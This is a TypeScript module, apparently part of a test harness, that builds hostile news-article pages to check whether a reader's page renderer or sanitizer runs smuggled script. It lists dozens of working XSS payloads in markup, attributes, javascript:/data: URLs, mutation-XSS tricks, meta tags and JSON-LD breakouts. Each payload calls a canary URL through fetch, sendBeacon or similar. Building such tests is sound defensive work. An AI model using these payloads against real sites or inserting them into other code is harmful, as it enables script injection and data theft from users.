/** Ways to smuggle script into what a reader's own page may draw: in the story, in attributes, in the metadata. */
import { CANARY, type HostilePage, type MakePage, toDocument } from '../hostile-page.ts';
import type { Random } from '../random.ts';
import { toArticle, toParagraphs, writeSentence, writeStory } from '../story.ts';

const CALL = `fetch('${CANARY}')`;
const CODES = [CALL, `new Image().src='${CANARY}'`, `navigator.sendBeacon('${CANARY}')`, `top.location='${CANARY}'`, `import('${CANARY}')`];
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpageshow',
  'onwheel',
];

/** Elements that run something when they are parsed into a document that lives. */
const ELEMENTS: readonly ((code: string, event: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code, event) => `<svg ${event}="${code}"><animate ${event}="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="data:text/html,<script>${code}</script>">`,
  (code) => `<a href="javascript:${code}">read on</a>`,
  (code) => `<a href=" java\tscript:${code}">read on</a>`,
  (code) => `<a href="&#1;javascript:${code}">read on</a>`,
  (code) => `<a href="data:text/html;base64,${btoa(`<script>${code}</script>`)}">read on</a>`,
  (code) => `<a href="vbscript:${code}">read on</a>`,
  (code) => `<form action="javascript:${code}"><button>Go on</button></form>`,
  (code, event) => `<details open ${event}="${code}"><summary>More</summary>text</details>`,
  (code, event) => `<video ${event}="${code}" src=x><source onerror="${code}"></video>`,
  (code, event) => `<p ${event}="${code}" tabindex=0 autofocus contenteditable>text</p>`,
  (code) =>
    `<style>@import '${CANARY}';p{background:url(${CANARY})}</style><link rel=stylesheet href="${CANARY}"><i style="x:expression(${code})">i</i>`,
  () => `<link rel="prefetch" href="${CANARY}"><meta http-equiv="refresh" content="0;url=${CANARY}"><base href="${CANARY}/">`,
  (code) => `<template><img src=x onerror="${code}"></template><noscript><img src=x onerror="${code}"></noscript>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror='${code}'>"></noscript>`,
  (code) => `<xmp><img src=x onerror="${code}"></xmp><plaintext-x></plaintext-x><textarea><img src=x onerror="${code}"></textarea>`,
  (code) => `<img srcset="javascript:${code} 1x, data:image/svg+xml,%3Csvg onload=${code}%3E 2x" alt="a">`,
  (code) =>
    `<figure><img src="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`)}" width=900 height=600><figcaption>Picture</figcaption></figure>`,
  (code) => `<a href="https://user:${code}@weir.example/&quot;onclick=${code}">link</a>`,
  (code) => `<div><template shadowrootmode="open"><img src=x onerror="${code}"><slot></slot></template>text</div>`,
  (code) => `<math href="javascript:${code}"><maction actiontype="statusline#${code}">x</maction></math>`,
  (code) => `<x-widget ${CANARY} onclick=${code} is="x"></x-widget><table background="javascript:${code}"><td>cell</table>`,
];

export const scriptVectors: MakePage = (random) => (random.chance(0.6) ? inStory(random) : inMetadata(random));

function inStory(random: Random): HostilePage {
  const story = writeStory(random);
  const vector = () => random.pick(ELEMENTS)(random.pick(CODES), random.pick(EVENTS));
  const texts = story.paragraphs.map((text) => {
    if (random.chance(0.5)) return `<p>${text}</p>`;
    const trick = vector();
    // As markup, as text that spells markup, and as text that would become markup if it were decoded twice.
    const form = random.pick([trick, toText(trick), toText(toText(trick))]);
    return random.chance(0.5) ? `<p>${text} ${form}</p>` : `${form}<p>${text}</p>`;
  });
  const headline = random.chance(0.5) ? `${story.headline} ${toText(vector())}` : story.headline;
  return { what: 'in the story', html: toDocument(toArticle({ ...story, headline }, texts.join('\n'))) };
}

function inMetadata(random: Random): HostilePage {
  const story = writeStory(random);
  const trick = () => toText(random.pick(ELEMENTS)(random.pick(CODES), random.pick(EVENTS)));
  const script = () =>
    random.pick([`javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`, `${CANARY}"onload="${CALL}`, `//x.example/${trick()}`]);
  const names = [
    'og:title',
    'og:description',
    'og:site_name',
    'author',
    'article:author',
    'article:published_time',
    'description',
    'twitter:title',
  ];
  const metas = names.map((name) => `<meta property="${name}" name="${name}" content="${story.headline} ${trick()}">`).join('');
  const pictures = `<meta property="og:image" content="${toText(script())}"><link rel="canonical" href="${toText(script())}">`;
  const data = JSON.stringify({
    '@context': 'https://schema.org',
    '@type': 'NewsArticle',
    headline: `${story.headline} <img src=x onerror=${CALL}>`,
    author: { '@type': 'Person', name: `<svg onload=${CALL}>${story.byline}`, url: script() },
    image: { url: script() },
    articleBody: `${writeSentence(random)}<script>${CALL}<\\/script>`,
    publisher: { name: `"><script>${CALL}<\\/script>`, logo: script() },
  });
  const jsonLd = `<script type="application/ld+json">${random.chance(0.3) ? `${data}</script><script>${CALL}` : data.replaceAll('</', '<\\/')}</script>`;
  return {
    what: 'in the metadata',
    html: toDocument(toArticle(story, toParagraphs(story)), `<title>${trick()}</title>${metas}${pictures}${jsonLd}`),
  };
}

/** Markup written out as text. */
function toText(markup: string): string {
  return markup.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}
